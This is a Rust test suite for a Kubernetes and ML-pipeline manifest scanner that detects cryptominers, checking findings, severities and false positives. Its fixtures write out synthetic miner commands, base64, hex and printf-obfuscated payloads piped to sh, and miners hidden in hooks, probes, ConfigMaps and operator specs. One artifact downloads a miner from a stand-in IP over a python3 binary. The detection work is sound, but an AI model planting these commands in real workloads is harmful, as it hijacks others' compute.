//! The miner analysis over every place a container spec hides and every decoding, each with a
//! near miss that must stay quiet. Miner strings here are synthetic: no real pool or wallet.

use base64::Engine;
use jackstop_analysers::{all, run_noted};
use jackstop_catalogue::Catalogue;
use jackstop_core::{Finding, InputError, Severity};
use jackstop_manifests::reader::{parse_text, ManifestSet, ReadOptions};

fn scan_noted(yaml: &str) -> (Vec<Finding>, Vec<InputError>) {
    let mut set = ManifestSet::default();
    parse_text(yaml, "t.yaml", &ReadOptions::default(), &mut set);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    run_noted(&all(), &set.objects, Catalogue::builtin())
}

fn scan(yaml: &str) -> Vec<Finding> {
    scan_noted(yaml).0
}

/// (rule, severity, field) of each finding that is not an exposure.
fn brief(f: &[Finding]) -> Vec<(String, Severity, String)> {
    f.iter()
        .filter(|f| !f.rule.starts_with("JS-EXP"))
        .map(|f| {
            (
                f.rule.clone(),
                f.severity,
                f.location.field.clone().unwrap_or_default(),
            )
        })
        .collect()
}

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

const MINER: &str = "xmrig -o pool.example.invalid:3333 --donate-level 1";
const BENIGN: &str = "python train.py --epochs 10 --output /data/model";

/// A Deployment in a plain image running `sh -c SCRIPT`.
fn deployment(script: &str) -> String {
    format!(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {{name: app, namespace: team}}
spec:
  template:
    spec:
      containers:
      - name: app
        image: registry.example.com/app:1.0
        command: [sh, -c]
        args: [{}]
"#,
        serde_json::to_string(script).unwrap()
    )
}

const ARGS0: &str = "spec.template.spec.containers[0].args[0]";

#[test]
fn every_decoding_finds_the_miner_and_shows_it() {
    let cases = [
        (
            "base64 piped to a shell",
            format!("echo {} | base64 -d | sh", b64(MINER)),
            "base64",
        ),
        (
            "double base64",
            format!("echo {} | base64 -d | base64 -d | sh", b64(&b64(MINER))),
            "base64 then base64",
        ),
        (
            "hex through xxd",
            format!("echo {} | xxd -r -p | sh", hex(MINER)),
            "hex",
        ),
        (
            "printf escapes",
            format!(
                "$(printf '{}')",
                MINER
                    .bytes()
                    .map(|b| format!("\\x{b:02x}"))
                    .collect::<String>()
            ),
            "escapes",
        ),
        (
            "python -c exec",
            format!(
                "python3 -c \"import base64,os; os.system(base64.b64decode('{}'))\"",
                b64(MINER)
            ),
            "base64",
        ),
    ];
    for (what, script, via) in cases {
        let f = scan(&deployment(&script));
        assert_eq!(
            brief(&f),
            vec![("JS-MIN-001".into(), Severity::High, ARGS0.into())],
            "{what}: {f:#?}"
        );
        let ev = f[0].evidence.join("\n");
        assert!(ev.contains(&format!("decoded {via}")), "{what}: {ev}");
        assert!(
            ev.contains("xmrig -o pool.example.invalid:3333"),
            "{what}: shows the decoded text: {ev}"
        );
    }
    // A shell -c script needs no decoding.
    let f = scan(&deployment(&format!("cd /tmp && {MINER}")));
    assert_eq!(brief(&f)[0].0, "JS-MIN-001");
}

#[test]
fn decodings_of_benign_text_stay_quiet() {
    for script in [
        format!("echo {} | base64 -d > /tmp/run.sh", b64(BENIGN)),
        format!("echo {} | xxd -r -p", hex(BENIGN)),
        format!("python3 -c \"print('{}')\"", b64("hello world, this is a test")),
        // A digest and a Kubernetes UID are not payloads.
        "docker pull registry.example.com/app@sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9 && echo 8f14e45f-ceea-467f-a0e6-38a8d8b3e5b1".to_string(),
    ] {
        let f = scan(&deployment(&script));
        assert_eq!(brief(&f), vec![], "{script}: {f:#?}");
    }
}

#[test]
fn base64_that_decodes_to_base64_forever_is_bounded() {
    let mut payload = MINER.to_string();
    for _ in 0..12 {
        payload = b64(&payload);
    }
    let (f, notes) = scan_noted(&deployment(&format!("echo {payload} | base64 -d | sh")));
    // Too deep to reach the miner: the download-and-decode tradecraft is still seen, and the
    // limit is said.
    assert!(brief(&f).iter().all(|b| b.0 != "JS-MIN-001"), "{f:#?}");
    assert!(
        notes.iter().any(|n| n.message.contains("depth")),
        "{notes:?}"
    );
}

#[test]
fn ten_megabyte_argument_is_read_in_bounded_time() {
    // Base64 of printable text (so the decoder takes it up, and must cut it), 10 MB on one line.
    let mut big = "QUJDRGVmZ2gxMjM0".repeat(10 * 1024 * 1024 / 16);
    big.push_str(" ; ");
    big.push_str(MINER);
    let started = std::time::Instant::now();
    let (f, notes) = scan_noted(&deployment(&big));
    // Generous: a linear scan of 10 MB takes well under a second even unoptimised.
    assert!(started.elapsed().as_secs() < 60);
    assert_eq!(
        brief(&f)[0].0,
        "JS-MIN-001",
        "the miner after 10 MB is still found"
    );
    assert!(
        notes
            .iter()
            .any(|n| n.message.contains("not fully analysed")),
        "{notes:?}"
    );
}

/// (what, manifest, expected rule, expected field of the finding)
fn hiding_places() -> Vec<(&'static str, String, &'static str, &'static str)> {
    vec![
        (
            "init container with $(VAR) from env",
            r#"
apiVersion: batch/v1
kind: Job
metadata: {name: j, namespace: team}
spec:
  template:
    spec:
      initContainers:
      - name: init
        image: busybox:1.36
        command: [$(BIN), -o, $(POOL)]
        env: [{name: BIN, value: /tmp/xmrig}, {name: POOL, value: "stratum+tcp://pool.example.invalid:3333"}]
      containers: [{name: main, image: busybox:1.36}]
"#
            .into(),
            "JS-MIN-001",
            "spec.template.spec.initContainers[0].command[0]",
        ),
        (
            "postStart hook",
            r#"
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: s, namespace: team}
spec:
  template:
    spec:
      containers:
      - name: db
        image: postgres:16
        lifecycle: {postStart: {exec: {command: [sh, -c, "nohup /tmp/xmrig --donate-level 1 -a rx/0 &"]}}}
"#
            .into(),
            "JS-MIN-001",
            "spec.template.spec.containers[0].lifecycle.postStart.exec.command[2]",
        ),
        (
            "exec liveness probe",
            r#"
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: d, namespace: team}
spec:
  template:
    spec:
      containers:
      - name: agent
        image: alpine:3.19
        livenessProbe: {exec: {command: [sh, -c, "pgrep xmrig || /opt/xmrig --cpu-max-threads-hint 90 -B"]}}
"#
            .into(),
            "JS-MIN-001",
            "spec.template.spec.containers[0].livenessProbe.exec.command[2]",
        ),
        (
            "envFrom ConfigMap",
            r#"
apiVersion: v1
kind: ConfigMap
metadata: {name: pool, namespace: team}
data: {MINER_ARGS: "-o stratum+tcp://pool.example.invalid:3333 -u synthetic --donate-level 1"}
---
apiVersion: v1
kind: Pod
metadata: {name: p, namespace: team}
spec:
  containers:
  - name: p
    image: registry.example.com/app:1.0
    envFrom: [{configMapRef: {name: pool}}]
"#
            .into(),
            "JS-MIN-001",
            "spec.containers[0].envFrom[0].configMapRef",
        ),
        (
            "Argo CronWorkflow script",
            r#"
apiVersion: argoproj.io/v1alpha1
kind: CronWorkflow
metadata: {name: nightly, namespace: team}
spec:
  schedule: "0 * * * *"
  workflowSpec:
    entrypoint: main
    templates:
    - name: main
      script:
        image: python:3.11
        command: [bash]
        source: "./ethminer -U -P stratum1+tcp://synthetic.worker@eth.example.invalid:4444"
"#
            .into(),
            "JS-MIN-001",
            "spec.workflowSpec.templates[0].script.source",
        ),
        (
            "KFP v2 pipeline executor",
            r#"
pipelineInfo: {name: train-pipeline}
deploymentSpec:
  executors:
    exec-train:
      container:
        image: tensorflow/tensorflow:latest-gpu
        command: [sh, -c]
        args: ["t-rex -a kawpow -o stratum+tcp://rvn.example.invalid:3333 -u synthetic -w w1"]
root: {dag: {tasks: {}}}
"#
            .into(),
            "JS-MIN-001",
            "deploymentSpec.executors.exec-train.container.args[0]",
        ),
        (
            "RayJob entrypoint",
            r#"
apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj, namespace: team}
spec:
  entrypoint: "python -c \"import os; os.system('/tmp/xmrig --donate-level 1 -o pool.example.invalid:3333')\""
  rayClusterSpec:
    headGroupSpec:
      rayStartParams: {}
      template: {spec: {containers: [{name: ray-head, image: "rayproject/ray:2.9.0"}]}}
"#
            .into(),
            "JS-MIN-001",
            "spec.entrypoint",
        ),
        (
            "Katib trial TFJob",
            r#"
apiVersion: kubeflow.org/v1beta1
kind: Experiment
metadata: {name: e, namespace: team}
spec:
  trialTemplate:
    trialSpec:
      apiVersion: kubeflow.org/v1
      kind: TFJob
      spec:
        tfReplicaSpecs:
          Worker:
            template:
              spec:
                containers:
                - {name: tensorflow, image: "tensorflow/tensorflow:2.15.0", command: [sh, -c, "lolMiner --algo ETCHASH --pool etc.example.invalid:1010 --user synthetic"]}
"#
            .into(),
            "JS-MIN-001",
            "spec.trialTemplate.trialSpec.spec.tfReplicaSpecs.Worker.template.spec.containers[0].command[2]",
        ),
        (
            "KServe predictor",
            r#"
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata: {name: isvc, namespace: team}
spec:
  predictor:
    containers:
    - name: kserve-container
      image: registry.example.com/model:1.0
      args: ["--", "nanominer", "-c", "config.ini", "--coin", "monero"]
"#
            .into(),
            "JS-MIN-001",
            "spec.predictor.containers[0].args[1]",
        ),
        (
            "SparkApplication arguments",
            r#"
apiVersion: sparkoperator.k8s.io/v1beta2
kind: SparkApplication
metadata: {name: spark, namespace: team}
spec:
  type: Python
  image: registry.example.com/spark:3.5
  mainApplicationFile: local:///opt/app/main.py
  arguments: ["--pool", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"]
  driver: {cores: 1}
  executor: {instances: 2}
"#
            .into(),
            "JS-MIN-001",
            "spec.arguments[1]",
        ),
        (
            "TrainJob trainer",
            r#"
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj, namespace: team}
spec:
  runtimeRef: {name: torch-distributed}
  trainer:
    image: pytorch/pytorch:latest
    command: [bash, -c, "SRBMiner-MULTI --algorithm randomx --pool pool.example.invalid:3333 --wallet synthetic"]
    resourcesPerNode: {limits: {nvidia.com/gpu: 1}}
"#
            .into(),
            "JS-MIN-001",
            "spec.trainer.command[2]",
        ),
        (
            "TrainJob dataset initializer env",
            r#"
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj, namespace: team}
spec:
  runtimeRef: {name: torch-distributed}
  initializer:
    dataset:
      storageUri: hf://tatsu-lab/alpaca
      env: [{name: PRESTART, value: "./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"}]
  trainer: {image: "pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime", command: [torchrun, train.py]}
"#
            .into(),
            "JS-MIN-001",
            "spec.initializer.dataset.env[0].value",
        ),
        (
            "TrainJob runtime patch env",
            r#"
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj, namespace: team}
spec:
  runtimeRef: {name: torch-distributed}
  trainer: {image: "pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime", command: [torchrun, train.py]}
  runtimePatches:
  - manager: team.example.com/patcher
    trainingRuntimeSpec:
      template:
        spec:
          replicatedJobs:
          - name: node
            template:
              spec:
                template:
                  spec:
                    containers:
                    - name: node
                      env: [{name: EXTRA, value: "--url stratum+tcp://pool.example.invalid:443 --donate-level 1"}]
"#
            .into(),
            "JS-MIN-001",
            "spec.runtimePatches[0].trainingRuntimeSpec.template.spec.replicatedJobs[0].template.spec.template.spec.containers[0].env[0].value",
        ),
        (
            "LLMInferenceService scheduler",
            r#"
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceService
metadata: {name: llm, namespace: team}
spec:
  model: {uri: hf://Qwen/Qwen2.5-7B-Instruct}
  router:
    scheduler:
      template:
        containers:
        - name: main
          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
          command: [sh, -c, "/tmp/.x/xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1 & exec /app/epp"]
"#
            .into(),
            "JS-MIN-001",
            "spec.router.scheduler.template.containers[0].command[2]",
        ),
        (
            "LLMInferenceServiceConfig template",
            r#"
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceServiceConfig
metadata: {name: kserve-config-llm-template, namespace: kserve}
spec:
  template:
    containers:
    - name: main
      image: ghcr.io/llm-d/llm-d:v0.2.0
      command: [/bin/sh, -c]
      args: ["nohup t-rex -a kawpow -o stratum+tcp://pool.example.invalid:3333 -u rig & exec vllm serve /mnt/models"]
"#
            .into(),
            "JS-MIN-001",
            "spec.template.containers[0].args[0]",
        ),
        (
            "KFP v2 task parameter constant",
            r#"
pipelineInfo: {name: param-pipeline}
deploymentSpec:
  executors:
    exec-run:
      container:
        image: python:3.11
        command: [sh, -c, "{{$.inputs.parameters['cmd']}}"]
root:
  dag:
    tasks:
      run:
        inputs:
          parameters:
            cmd: {runtimeValue: {constant: "./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"}}
"#
            .into(),
            "JS-MIN-001",
            "root.dag.tasks.run.inputs.parameters.cmd.runtimeValue.constant",
        ),
        (
            "Argo artifact downloaded onto the PATH",
            r#"
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: fetch, namespace: team}
spec:
  entrypoint: run
  templates:
  - name: run
    inputs:
      artifacts:
      - {name: bin, path: /usr/local/bin/python3, mode: 0755, http: {url: "http://203.0.113.9/xmrig"}}
    container: {image: "python:3.11", command: [python3, --version]}
"#
            .into(),
            "JS-MIN-001",
            "spec.templates[0].inputs.artifacts[0].http.url",
        ),
        (
            "Tekton parameter default",
            r#"
apiVersion: tekton.dev/v1
kind: Task
metadata: {name: t, namespace: ci}
spec:
  params:
  - {name: cmd, default: "xmrig -o pool.example.invalid:443 --donate-level 1"}
  steps:
  - {name: s, image: alpine, script: $(params.cmd)}
"#
            .into(),
            "JS-MIN-001",
            "spec.params[0].default",
        ),
        (
            "ConfigMap of a workload applied with -n",
            r#"
apiVersion: v1
kind: ConfigMap
metadata: {name: worker-env, namespace: team}
data: {ARGS: "--donate-level 1 -o stratum+tcp://pool.example.invalid:3333"}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: worker}
spec:
  template:
    spec:
      containers:
      - {name: w, image: "registry.example.com/w:1", envFrom: [{configMapRef: {name: worker-env}}]}
"#
            .into(),
            "JS-MIN-001",
            "spec.template.spec.containers[0].envFrom[0].configMapRef",
        ),
        (
            "renamed miner: pool flags on a pool port",
            r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: proxy, namespace: team}
spec:
  template:
    spec:
      containers:
      - {name: p, image: "python:3.11", command: [python3, -o, "203.0.113.9:3333", -u, rig1, -p, x, -k]}
"#
            .into(),
            "JS-SUS-002",
            "spec.template.spec.containers[0].command[2]",
        ),
    ]
}

#[test]
fn every_hiding_place_is_found() {
    for (what, yaml, rule, field) in hiding_places() {
        let f = scan(&yaml);
        let b = brief(&f);
        assert!(
            b.iter().any(|(r, _, fl)| r == rule && fl == field),
            "{what}: expected {rule} at {field}, got {b:#?}"
        );
        // The finding names the top-level resource, never a template or pod.
        let top = yaml
            .split("\n---\n")
            .last()
            .and_then(|d| d.lines().find(|l| l.starts_with("kind:")))
            .map(|l| l.trim_start_matches("kind:").trim().to_string())
            .unwrap_or_else(|| "PipelineSpec".into());
        assert!(
            f.iter().any(|f| f.rule == rule && f.resource.kind == top),
            "{what}: resource kind {top}: {f:#?}"
        );
    }
}

#[test]
fn ml_context_raises_severity() {
    // The same miner: high in a plain image, critical in a TensorFlow image or with a GPU.
    let plain = deployment(MINER);
    assert_eq!(brief(&scan(&plain))[0].1, Severity::High);
    let tf = plain.replace(
        "registry.example.com/app:1.0",
        "tensorflow/tensorflow:latest",
    );
    let f = scan(&tf);
    assert_eq!(brief(&f)[0].1, Severity::Critical);
    assert!(
        f[0].evidence.iter().any(|e| e.contains("TensorFlow image")),
        "{f:#?}"
    );
    let gpu = plain.replace(
        "        command: [sh, -c]",
        "        resources: {limits: {nvidia.com/gpu: 1}}\n        command: [sh, -c]",
    );
    assert_eq!(brief(&scan(&gpu))[0].1, Severity::Critical);
}

#[test]
fn look_alikes_stay_quiet() {
    let cases = [
        // Pipelines that download datasets with curl.
        "curl -fsSL -o /data/train.csv https://datasets.example.com/train.csv && python train.py",
        "wget -q https://datasets.example.com/imagenet.tar -O /data/imagenet.tar && tar xf /data/imagenet.tar -C /data",
        // Ethereum analytics.
        "python eth_stats.py --address 0x52908400098527886E0F7030069857D2E4169EE7 --rpc https://rpc.example.com",
        // Data mining text.
        "echo 'text and data mining of papers'; python mine_rules.py --min-support 0.1",
        // An app on 3333 and other pool-like ports.
        "./server --port 3333 --metrics-port 4444 --listen 0.0.0.0:5555",
        // TensorFlow training with flags that look like miner flags.
        "python -m trainer -o /output -u 100 -p 8 -a adam --threads 4",
        // Background jobs and temp files that are normal.
        "nohup tensorboard --logdir /logs & python train.py --tmp /tmp/cache",
    ];
    for c in cases {
        let f = scan(&deployment(c));
        assert_eq!(brief(&f), vec![], "{c}: {f:#?}");
        // And in ML images with GPUs and latest tags too.
        let tf = deployment(c).replace(
            "registry.example.com/app:1.0",
            "tensorflow/tensorflow:latest-gpu",
        );
        assert_eq!(brief(&scan(&tf)), vec![], "{c} in TensorFlow");
    }
}

/// Real shapes of the places added for KServe's LLM kinds and Kubeflow Trainer v2 (KServe's
/// `kserve-config-llm-scheduler` and `kserve-config-llm-template` configs with their Go
/// templates, a scheduler on the endpoint picker's ports, a TrainJob with initializers and a
/// Kueue runtime patch): nothing a miner would run, and no finding.
#[test]
fn llm_and_trainer_near_misses_stay_quiet() {
    let yaml = r#"
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceServiceConfig
metadata: {name: kserve-config-llm-scheduler, namespace: kserve}
spec:
  router:
    scheduler:
      pool:
        spec:
          extensionRef: {failureMode: FailOpen, kind: Service, name: "{{ ChildName .ObjectMeta.Name `-epp-service` }}"}
          selector: {}
          targetPortNumber: 8000
      template:
        containers:
        - name: main
          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
          ports:
          - {containerPort: 9002, name: grpc, protocol: TCP}
          - {containerPort: 9003, name: grpc-health, protocol: TCP}
          - {containerPort: 9090, name: metrics, protocol: TCP}
          - {containerPort: 5557, name: zmq, protocol: TCP}
          args:
          - --poolName
          - "{{ ChildName .ObjectMeta.Name `-inference-pool` }}"
          - --poolNamespace
          - "{{ .ObjectMeta.Namespace }}"
          - --zap-encoder
          - json
          - --grpcPort
          - "9002"
          - --grpcHealthPort
          - "9003"
          - --kv-cache-usage-percentage-metric
          - "vllm:kv_cache_usage_perc"
---
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceServiceConfig
metadata: {name: kserve-config-llm-template, namespace: kserve}
spec:
  template:
    containers:
    - name: main
      image: ghcr.io/llm-d/llm-d:v0.2.0
      command: [vllm, serve, /mnt/models]
      args: [--served-model-name, "{{ .Spec.Model.Name }}", --port, "8000", --gpu-memory-utilization, "0.92"]
      env: [{name: HOME, value: /home}, {name: VLLM_LOGGING_LEVEL, value: INFO}, {name: HF_HUB_CACHE, value: /models}]
---
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceService
metadata: {name: qwen, namespace: llm}
spec:
  baseRefs: [{name: kserve-config-llm-template}, {name: kserve-config-llm-scheduler}]
  model: {uri: hf://Qwen/Qwen2.5-7B-Instruct, name: Qwen/Qwen2.5-7B-Instruct}
  router:
    scheduler:
      template:
        containers:
        - name: main
          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
          args: [--poolName, qwen-inference-pool, --poolNamespace, llm, -v, "4", --zap-encoder, json]
          resources: {requests: {cpu: 256m, memory: 500Mi}}
---
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: fine-tune, namespace: team}
spec:
  runtimeRef: {name: torchtune-llama3.2-1b}
  initializer:
    dataset: {storageUri: "hf://tatsu-lab/alpaca/data", env: [{name: HF_HUB_DISABLE_TELEMETRY, value: "1"}]}
    model: {storageUri: "hf://meta-llama/Llama-3.2-1B-Instruct", secretRef: {name: hf-token}}
  trainer:
    numNodes: 2
    image: docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727
    command: [python3, /opt/pytorch-mnist/mnist.py, --epochs=1, --lr=0.01, --momentum=0.5]
    resourcesPerNode: {limits: {nvidia.com/gpu: 1}}
  runtimePatches:
  - manager: kueue.x-k8s.io/manager
    trainingRuntimeSpec:
      template:
        spec:
          replicatedJobs:
          - name: node
            template:
              spec:
                template:
                  spec:
                    nodeSelector: {cloud.google.com/gke-accelerator: nvidia-l4}
                    containers: [{name: node, env: [{name: NCCL_DEBUG, value: INFO}, {name: PORT, value: "3333"}]}]
"#;
    let (f, errors) = scan_noted(yaml);
    assert_eq!(brief(&f), vec![], "{f:#?}");
    assert_eq!(errors, vec![]);
}

#[test]
fn secrets_are_never_read() {
    let yaml = r#"
apiVersion: v1
kind: Secret
metadata: {name: s, namespace: team}
stringData: {ARGS: "xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"}
---
apiVersion: v1
kind: Pod
metadata: {name: p, namespace: team}
spec:
  containers:
  - name: p
    image: registry.example.com/app:1.0
    envFrom: [{secretRef: {name: s}}]
"#;
    assert_eq!(brief(&scan(yaml)), vec![]);
}
